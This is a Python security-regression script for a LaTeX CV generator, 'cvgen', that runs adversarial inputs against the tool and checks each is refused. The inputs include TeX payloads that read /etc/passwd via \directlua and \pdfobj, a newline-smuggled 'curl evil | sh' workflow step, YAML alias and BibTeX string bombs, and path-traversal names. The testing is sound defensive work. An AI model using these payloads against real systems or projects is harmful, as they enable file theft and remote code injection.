"""The project's attacks (issues 15 and 21), for a release to run; tests/test_attacks.py runs
the fast ones (the `FAST` list) as tests.

    .venv/bin/python benchmarks/attacks.py [--kills 20] [--only NAME] [--fast]

Each attack runs `cvgen` as users do (a subprocess) on a copy of content/ in a temporary
folder and checks the outcome: a clear message and exit status 1 within a time limit, no
file touched outside the build folder, and after `kill -9` at random moments never a torn
PDF. It prints one line per attack and exits 1 if any failed.

  big-file      a 2 GB (sparse) file as cv.yaml and as the .bib: refused by size, at once
  devices       /dev/zero and /dev/urandom as the CV: refused, never read
  fifos         a named pipe as the CV, the .bib and venues.yaml: refused, no hang
  alias-bomb    1 KB of nested YAML anchors: refused within a second
  log-flood     a trusted raw_latex \\message loop: stopped at the log cap, the log removed
  lua-escape    raw_latex with \\directlua reading /etc/passwd under lualatex: refused
  kill-loop     builds killed with SIGKILL at random moments: the PDF is always whole

Issue 21 (numbered as there):
  21.1-theme-lua      a theme folder's .cls writes a file through \\directlua: refused without --trust-tex
  21.1-theme-pdfobj   a theme's .cls embeds /etc/passwd with \\pdfobj file: refused without --trust-tex
  21.2-import-keywords  `import --keywords '{x'`: the .bib still parses (or a message, file unchanged)
  21.3-import-symlink   `import` into a symlinked .bib: the link stays, its target gets the entry
  21.4-own-figures    venues.yaml figures for a venue the database lacks (venue = {SOT}) print
  21.5-brace-nesting  500 nested braces in a .bib field: a message at the field, exit 1
  21.6-string-bomb    @string doubling 40 levels: a message at the @string, exit 1
  21.7-new-name       `cvgen new` with a 5,000-character name, and with a newline: exit 1
  21.8-watch-vanish   the watched folder is deleted: watch waits or exits 1, never 70
  21.9-new-action     `cvgen new --action` with a newline: refused
  21.10-output-newline  `-o` with a newline: refused
  21.11-new-escape    `cvgen new '../../x'`, 'AC/DC Fan', '/srv/abs': nothing written outside the folder
  21.12-import-cr-ro  import keeps CR-only line endings; refuses a read-only .bib
  21.13-characters    U+FE0F under lualatex is printed or refused (not dropped); month {٣} warns
  21.14-messages      a 120,000-item cv.yaml is not blamed on aliases; no pdflatex.fmt names cvgen doctor
  21.15-action-pins   action.yml pins third-party actions by full commit SHA
"""

from __future__ import annotations

import argparse
import os
import random
import shutil
import signal
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
CONTENT = ROOT / "content"


def cvgen(*args: object, timeout: float = 120) -> tuple[int, str, float]:
    """Exit status, stderr and wall time of `python -m cvgen ARGS` (status -9 on a timeout)."""
    start = time.monotonic()
    try:
        done = subprocess.run([sys.executable, "-m", "cvgen", *map(str, args)], capture_output=True, text=True,
                              timeout=timeout, cwd=ROOT)
    except subprocess.TimeoutExpired:
        return -9, "timed out (a hang)", time.monotonic() - start
    return done.returncode, done.stderr, time.monotonic() - start


def fresh(tmp: Path, name: str) -> Path:
    target = tmp / name / "content"
    shutil.copytree(CONTENT, target)
    return target


def expect(status: int, err: str, seconds: float, words: str, limit: float) -> str | None:
    if status != 1:
        return f"exit {status}: {err.strip()[-300:]}"
    if words not in err:
        return f"message lacks '{words}': {err.strip()[-300:]}"
    if seconds > limit:
        return f"took {seconds:.1f} s (limit {limit:g} s)"
    return None


def big_file(tmp: Path) -> str | None:
    cv = fresh(tmp, "big") / "cv.yaml"
    huge = cv.parent / "huge.yaml"
    with open(huge, "wb") as f:
        f.truncate(2 * 2**30)
    problem = expect(*cvgen("build", huge, "-o", tmp / "big" / "out" / "cv.pdf", timeout=60), "MB", 10)
    if problem:
        return "cv.yaml: " + problem
    os.replace(huge, cv.parent / "publications.bib")
    return expect(*cvgen("build", cv, "-o", tmp / "big" / "out" / "cv.pdf", timeout=60), "MB", 10)


def devices(tmp: Path) -> str | None:
    for device in ("/dev/zero", "/dev/urandom"):
        problem = expect(*cvgen("build", device, "-o", tmp / "dev" / "cv.pdf", timeout=60), "not a regular file", 10)
        if problem:
            return f"{device}: {problem}"
    return None


def fifos(tmp: Path) -> str | None:
    content = fresh(tmp, "fifo")
    for name in ("cv.yaml", "publications.bib", "venues.yaml"):
        copy = tmp / f"fifo-{name}"
        shutil.copytree(content, copy)
        (copy / name).unlink()
        os.mkfifo(copy / name)
        problem = expect(*cvgen("build", copy / "cv.yaml", "-o", copy / "out" / "cv.pdf", timeout=60),
                         "not a regular file", 20)
        if problem:
            return f"{name}: {problem}"
    return None


def alias_bomb(tmp: Path) -> str | None:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    for i in range(1, 12):
        lines.append(f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 10) + "]")
    bomb = tmp / "bomb.yaml"
    bomb.write_text("\n".join(lines) + "\nname: *a11\n", encoding="utf-8")
    status, err, seconds = cvgen("build", bomb, "-o", tmp / "bomb" / "cv.pdf", timeout=60)
    if status != 1 or seconds > 2:
        return f"exit {status} after {seconds:.1f} s: {err.strip()[-300:]}"
    return None


def log_flood(tmp: Path) -> str | None:
    cv = fresh(tmp, "flood") / "cv.yaml"
    cv.write_text(cv.read_text(encoding="utf-8") + "  - title: Flood\n    raw_latex: '\\loop\\message{"
                  + "flood " * 20 + "}\\iftrue\\repeat'\n", encoding="utf-8")
    out = cv.parent.parent / "out"
    problem = expect(*cvgen("build", cv, "-o", out / "cv.pdf", "--trust-raw-latex", timeout=300), "MB of log", 240)
    if problem:
        return problem
    biggest = max((p.stat().st_size for p in out.rglob("*") if p.is_file() and p.suffix != ".fmt"), default=0)
    return f"a {biggest / 2**20:.0f} MB file stayed behind" if biggest > 2**20 else None


def lua_escape(tmp: Path) -> str | None:
    cv = fresh(tmp, "lua") / "cv.yaml"
    victim = tmp / "lua-outside.txt"
    cv.write_text(cv.read_text(encoding="utf-8") + "  - title: Lua\n    raw_latex: '\\directlua{local f = "
                  f'io.open("/etc/passwd"); local g = io.open("{victim}", "w"); g:write("x"); g:close()}}\'\n',
                  encoding="utf-8")
    problem = expect(*cvgen("build", cv, "-o", tmp / "lua" / "out" / "cv.pdf", "--engine", "lualatex",
                            timeout=120), "--trust-tex", 30)
    return problem or (f"{victim} was written" if victim.exists() else None)


def run(args: list[object], cwd: Path | None = None, timeout: float = 120,
        env: dict[str, str] | None = None) -> tuple[int, str]:
    """Exit status and stdout+stderr of `python -m cvgen ARGS` in `cwd` (-9 on a timeout)."""
    try:
        done = subprocess.run([sys.executable, "-m", "cvgen", *map(str, args)], capture_output=True, text=True,
                              timeout=timeout, cwd=cwd or ROOT, env={**os.environ, "PYTHONPATH": str(ROOT),
                                                                      **(env or {})})
    except subprocess.TimeoutExpired:
        return -9, "timed out (a hang)"
    return done.returncode, done.stdout + done.stderr


def not_crash(status: int, out: str) -> str | None:
    """A refusal as users should see one: exit 1 (or 2, click's usage error) with a message, no
    traceback, no exit 70."""
    if status not in (1, 2) or "Traceback" in out:
        return f"exit {status}: {out.strip()[-300:]}"
    return None


THEME_CLS = ("\\ProvidesClass{mine}\n\\DeclareOption*{\\PassOptionsToClass{\\CurrentOption}{cvgen}}\n"
             "\\ProcessOptions\\relax\n\\LoadClass{cvgen}\n")


def _theme(tmp: Path, name: str, code: str) -> Path:
    cv = fresh(tmp, name) / "cv.yaml"
    (cv.parent / "mytheme").mkdir()
    (cv.parent / "mytheme" / "mine.cls").write_text(THEME_CLS + code + "\n", encoding="utf-8")
    cv.write_text(cv.read_text(encoding="utf-8").replace("settings:\n", "settings:\n  theme: ./mytheme\n", 1),
                  encoding="utf-8")
    return cv


def theme_lua(tmp: Path) -> str | None:
    victim = tmp / "theme-outside.txt"
    cv = _theme(tmp, "theme-lua", f'\\directlua{{local g = io.open("{victim}", "w"); g:write("x"); g:close()}}')
    status, out = run(["build", cv, "-o", tmp / "out" / "cv.pdf", "--engine", "lualatex"])
    problem = not_crash(status, out) or (None if "--trust-tex" in out else f"no --trust-tex in: {out.strip()[-300:]}")
    return problem or (f"{victim} was written" if victim.exists() else None)


def theme_pdfobj(tmp: Path) -> str | None:
    cv = _theme(tmp, "theme-pdfobj", "\\AtEndDocument{\\immediate\\pdfobj stream file{/etc/passwd}"
                "\\pdfrefobj\\pdflastobj}\\pdfcompresslevel=0")
    pdf = tmp / "out" / "cv.pdf"
    status, out = run(["build", cv, "-o", pdf])
    if pdf.exists() and b"root:" in pdf.read_bytes():
        return "/etc/passwd is in the PDF"
    return not_crash(status, out) or (None if "--trust-tex" in out else f"no --trust-tex in: {out[-300:]}")


SOURCE_BIB = "@inproceedings{attack2024new,\n  author = {Ada Lovelace and Ashish Panwar},\n  title = {A New Paper},\n" \
    "  booktitle = {Proceedings of OSDI},\n  year = {2024},\n}\n"


def _bib_parses(bib: Path) -> str | None:
    status, out = run(["check", bib.parent / "cv.yaml"])
    return None if status == 0 else f"the .bib no longer checks: {out.strip()[-300:]}"


def import_keywords(tmp: Path) -> str | None:
    cv = fresh(tmp, "imp-kw") / "cv.yaml"
    bib = cv.parent / "publications.bib"
    (tmp / "src.bib").write_text(SOURCE_BIB, encoding="utf-8")
    before = bib.read_bytes()
    status, out = run(["import", tmp / "src.bib", "--into", bib, "--keywords", "{x"])
    if status == 0:
        return _bib_parses(bib)
    return not_crash(status, out) or (None if bib.read_bytes() == before else "refused, yet the .bib changed")


def import_symlink(tmp: Path) -> str | None:
    cv = fresh(tmp, "imp-link") / "cv.yaml"
    shared = tmp / "shared.bib"
    shutil.move(cv.parent / "publications.bib", shared)
    (cv.parent / "publications.bib").symlink_to(shared)
    (tmp / "src.bib").write_text(SOURCE_BIB, encoding="utf-8")
    status, out = run(["import", tmp / "src.bib", "--into", cv.parent / "publications.bib"])
    if status != 0:
        return f"exit {status}: {out.strip()[-300:]}"
    if not (cv.parent / "publications.bib").is_symlink():
        return "the link was replaced by a plain file"
    # import gives the entry a key of its own scheme: look for its title
    return None if "A New Paper" in shared.read_text(encoding="utf-8") else "the link's target lacks the entry"


def own_figures(tmp: Path) -> str | None:
    cv = fresh(tmp, "own-fig") / "cv.yaml"
    bib = cv.parent / "publications.bib"
    bib.write_text(bib.read_text(encoding="utf-8") + "\n@inproceedings{attack2024sot,\n  author = {Ashish Panwar},\n"
                   "  title = {A Paper at a Small Workshop},\n  booktitle = {Proceedings of the Symposium on Tiny Things},\n"
                   "  venue = {SOT},\n  year = {2024},\n  keywords = {full},\n}\n", encoding="utf-8")
    venues = cv.parent / "venues.yaml"
    venues.write_text(venues.read_text(encoding="utf-8") + "SOT:\n  2024: {submitted: 97, accepted: 13}\n",
                      encoding="utf-8")
    status, out = run(["build", cv, "-o", tmp / "out" / "cv.pdf", "--format", "md"])
    if status != 0:
        return f"exit {status}: {out.strip()[-300:]}"
    md = (tmp / "out" / "cv.md").read_text(encoding="utf-8")
    if "Tiny Things" not in md:
        return "the entry is not in the CV"
    after = md[md.index("Tiny Things"):][:600]  # its lines, up to the next entry
    after = after.split("\n1. ")[0].split("\n- ")[0]
    return None if "97" in after and "13" in after else \
        "the figures kept in venues.yaml for SOT 2024 do not print"


def _bib_attack(tmp: Path, name: str, extra: str) -> str | None:
    cv = fresh(tmp, name) / "cv.yaml"
    bib = cv.parent / "publications.bib"
    bib.write_text(bib.read_text(encoding="utf-8") + extra, encoding="utf-8")
    for command in ("check", "build"):
        status, out = run([command, cv, *(["-o", tmp / "out" / "cv.pdf"] if command == "build" else [])], timeout=60)
        if status == 0:
            continue  # a warning at the entry and the CV goes on: fine
        if problem := not_crash(status, out):
            return f"{command}: {problem}"
        if "publications.bib:" not in out:
            return f"{command}: the message names no place in the .bib: {out.strip()[-300:]}"
    return None


def brace_nesting(tmp: Path) -> str | None:
    return _bib_attack(tmp, "braces", "\n@misc{attack2024deep,\n  author = {Ashish Panwar},\n  title = {"
                       + "{" * 500 + "x" + "}" * 500 + "},\n  year = {2024},\n  keywords = {full},\n}\n")


def string_bomb(tmp: Path) -> str | None:
    strings = "@string{s0 = \"xxxxxxxx\"}\n" + "".join(f"@string{{s{i} = s{i - 1} # s{i - 1}}}\n" for i in range(1, 41))
    return _bib_attack(tmp, "strings", "\n" + strings + "@misc{attack2024bomb,\n  author = {Ashish Panwar},\n  title = s40,\n  year = {2024},\n"
                       "  keywords = {full},\n}\n")


def new_name(tmp: Path) -> str | None:
    for i, name in enumerate(["A" * 5000, "Ada\nLovelace"]):
        work = tmp / f"new-name-{i}"
        work.mkdir()
        status, out = run(["new", name], cwd=work)
        if status not in (1, 2) or "Traceback" in out:  # refused: an error (1) or a usage error (2) with its message
            return f"name {name[:20]!r}: exit {status}: {out.strip()[-300:]}"
    return None


def watch_vanish(tmp: Path) -> str | None:
    cv = fresh(tmp, "watch") / "cv.yaml"
    pdf = tmp / "watch" / "out" / "cv.pdf"
    proc = subprocess.Popen([sys.executable, "-m", "cvgen", "watch", str(cv), "-o", str(pdf)], cwd=ROOT,
                            stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, start_new_session=True)
    try:
        deadline = time.monotonic() + 90
        while not pdf.exists() and time.monotonic() < deadline and proc.poll() is None:
            time.sleep(0.2)
        shutil.rmtree(cv.parent)
        time.sleep(3)
        code = proc.poll()
        if code is None:
            return None  # still waiting for the folder to come back
        out = proc.stdout.read() if proc.stdout else ""
        return None if code == 1 and "Traceback" not in out else f"exit {code}: {out.strip()[-300:]}"
    finally:
        if proc.poll() is None:
            os.killpg(proc.pid, signal.SIGINT)
            try:
                proc.wait(10)
            except subprocess.TimeoutExpired:
                os.killpg(proc.pid, signal.SIGKILL)
                proc.wait()


def new_action(tmp: Path) -> str | None:
    work = tmp / "new-action"
    work.mkdir()
    status, out = run(["new", "Ada Lovelace", "ada", "--action", "me/cvgen@v1\n      - run: curl evil | sh"],
                      cwd=work)
    written = "".join(p.read_text(encoding="utf-8", errors="replace") for p in work.rglob("*.yml"))
    if "curl evil" in written:
        return "the newline added a step to the workflow"
    return not_crash(status, out)


def output_newline(tmp: Path) -> str | None:
    cv = fresh(tmp, "o-newline") / "cv.yaml"
    status, out = run(["build", cv, "-o", tmp / "out\nx" / "cv.pdf", "--format", "md"])
    if status == 0:
        return "a path with a newline was accepted"
    return None if status in (1, 2) and "Traceback" not in out else f"exit {status}: {out.strip()[-300:]}"


def new_escape(tmp: Path) -> str | None:
    work = tmp / "a" / "b" / "new-escape"
    work.mkdir(parents=True)
    before = {p for p in tmp.rglob("*")}
    for name in ("../../x", "AC/DC Fan", str(tmp / "srv-abs")):
        status, out = run(["new", name], cwd=work)
        if "Traceback" in out or status not in (0, 1):
            return f"{name!r}: exit {status}: {out.strip()[-300:]}"
    outside = [p for p in tmp.rglob("*") if p not in before and work not in p.parents and p != work]
    return f"written outside {work}: {sorted(map(str, outside))[:3]}" if outside else None


def import_cr_ro(tmp: Path) -> str | None:
    cv = fresh(tmp, "imp-cr") / "cv.yaml"
    bib = cv.parent / "publications.bib"
    bib.write_bytes(bib.read_bytes().replace(b"\r\n", b"\n").replace(b"\n", b"\r"))
    (tmp / "src.bib").write_text(SOURCE_BIB, encoding="utf-8")
    status, out = run(["import", tmp / "src.bib", "--into", bib])
    if status != 0:
        return f"CR-only: exit {status}: {out.strip()[-300:]}"
    if b"\n" in bib.read_bytes():
        return "CR-only .bib got LF line endings"
    bib.chmod(0o444)
    before = bib.read_bytes()
    (tmp / "src.bib").write_text(SOURCE_BIB.replace("attack2024new", "attack2024other"), encoding="utf-8")
    status, out = run(["import", tmp / "src.bib", "--into", bib])
    if os.geteuid() != 0 and bib.read_bytes() == before and status == 1:
        return None
    if bib.read_bytes() != before:
        return "a read-only .bib was rewritten"
    return not_crash(status, out)


def characters(tmp: Path) -> str | None:
    cv = fresh(tmp, "chars") / "cv.yaml"
    cv.write_text(cv.read_text(encoding="utf-8") + "  - title: Emoji\n    text: 'Heart \u2764\ufe0f here'\n",
                  encoding="utf-8")
    pdf = tmp / "out" / "cv.pdf"
    status, out = run(["build", cv, "-o", pdf, "--engine", "lualatex"], timeout=300)
    if status == 0:
        text = subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, text=True).stdout
        if "\ufe0f" not in text and "U+FE0F" not in out and "FE0F" not in out:
            return "lualatex dropped U+FE0F without a word"
    elif problem := not_crash(status, out):
        return "U+FE0F: " + problem
    cv2 = fresh(tmp, "month") / "cv.yaml"
    bib = cv2.parent / "publications.bib"
    text = bib.read_text(encoding="utf-8")
    first = text.index("year")
    bib.write_text(text[:first] + "month = {\u0663},\n  " + text[first:], encoding="utf-8")
    status, out = run(["check", cv2])
    return None if "month" in out else f"month = {{\u0663}} passed without a warning (exit {status})"


def messages(tmp: Path) -> str | None:
    big = tmp / "big.yaml"
    big.write_text("name: X\nitems:\n" + "".join(f"  - v{i}\n" for i in range(120_000)), encoding="utf-8")
    status, out = run(["check", big])
    if status != 1 or "alias" in out:
        return f"large cv.yaml: exit {status}: {out.strip()[-200:]}"
    cv = fresh(tmp, "nofmt") / "cv.yaml"
    (tmp / "nofmt-formats").mkdir()
    status, out = run(["build", cv, "-o", tmp / "nofmt" / "cv.pdf"],
                      env={"TEXFORMATS": str(tmp / "nofmt-formats"), "MKTEXFMT": "0"})
    if status != 1 or "cvgen doctor" not in out or "texlive-latex-base" not in out:
        return f"no pdflatex.fmt: exit {status}: {out.strip()[-300:]}"
    return None


def action_pins(tmp: Path) -> str | None:
    import re

    loose = [m.group(1) for m in re.finditer(r"uses:\s*([^\s#]+)", (ROOT / "action.yml").read_text(encoding="utf-8"))
             if not m.group(1).startswith("./") and not re.search(r"@[0-9a-f]{40}$", m.group(1))]
    return f"pinned by tag, not commit: {', '.join(loose)}" if loose else None


# The attacks of issue 21, fast enough for the test suite (tests/test_attacks.py runs these).
FAST: dict[str, Callable[[Path], str | None]] = {
    "21.1-theme-lua": theme_lua, "21.1-theme-pdfobj": theme_pdfobj, "21.2-import-keywords": import_keywords,
    "21.3-import-symlink": import_symlink, "21.4-own-figures": own_figures, "21.5-brace-nesting": brace_nesting,
    "21.7-new-name": new_name, "21.9-new-action": new_action,
    "21.10-output-newline": output_newline, "21.11-new-escape": new_escape, "21.12-import-cr-ro": import_cr_ro,
    "21.14-messages": messages, "21.15-action-pins": action_pins,
}
# Slower (a watcher, a lualatex build; the @string bomb runs into its 60 s timeout until fixed).
SLOW: dict[str, Callable[[Path], str | None]] = {"21.6-string-bomb": string_bomb, "21.8-watch-vanish": watch_vanish,
                                                 "21.13-characters": characters}


def kill_loop(tmp: Path, kills: int) -> str | None:
    cv = fresh(tmp, "kill") / "cv.yaml"
    pdf = cv.parent.parent / "out" / "cv.pdf"
    status, err, _ = cvgen("build", cv, "-o", pdf)
    if status != 0:
        return f"first build failed: {err.strip()[-300:]}"
    whole = {pdf.read_bytes()}
    rng = random.Random(15)
    text = cv.read_text(encoding="utf-8")
    for i in range(kills):
        cv.write_text(text.replace("name: Ashish Panwar", f"name: Ashish Panwar {i}"), encoding="utf-8")
        proc = subprocess.Popen([sys.executable, "-m", "cvgen", "build", str(cv), "-o", str(pdf)], cwd=ROOT,
                                stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
        time.sleep(rng.uniform(0.0, 2.5))
        if proc.poll() is None:
            os.killpg(proc.pid, signal.SIGKILL)
        proc.wait()
        if pdf.exists() and not pdf.read_bytes().endswith((b"%%EOF\n", b"%%EOF")):
            return f"kill {i}: a torn PDF"
        status, err, _ = cvgen("build", cv, "-o", pdf)
        if status != 0:
            return f"build after kill {i} failed: {err.strip()[-300:]}"
        whole.add(pdf.read_bytes())
    return None


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--kills", type=int, default=20)
    parser.add_argument("--only", default=None)
    parser.add_argument("--fast", action="store_true", help="only the attacks the test suite runs")
    args = parser.parse_args()
    attacks: dict[str, Callable[[Path], str | None]] = {
        "big-file": big_file, "devices": devices, "fifos": fifos, "alias-bomb": alias_bomb,
        "log-flood": log_flood, "lua-escape": lua_escape,
        "kill-loop": lambda tmp: kill_loop(tmp, args.kills), **SLOW,
    }
    attacks = dict(FAST) if args.fast else {**attacks, **FAST}
    failed = ran = 0
    for name, attack in attacks.items():
        if args.only and name != args.only:
            continue
        with tempfile.TemporaryDirectory(prefix=f"cvgen-attack-{name}-") as tmp:
            start = time.monotonic()
            problem = attack(Path(tmp))
            print(f"{'FAIL' if problem else 'ok  '} {name:20} {time.monotonic() - start:6.1f} s"
                  + (f"  {problem}" if problem else ""), flush=True)
            failed += bool(problem)
            ran += 1
    print(f"{ran - failed} of {ran} attacks pass", flush=True)
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
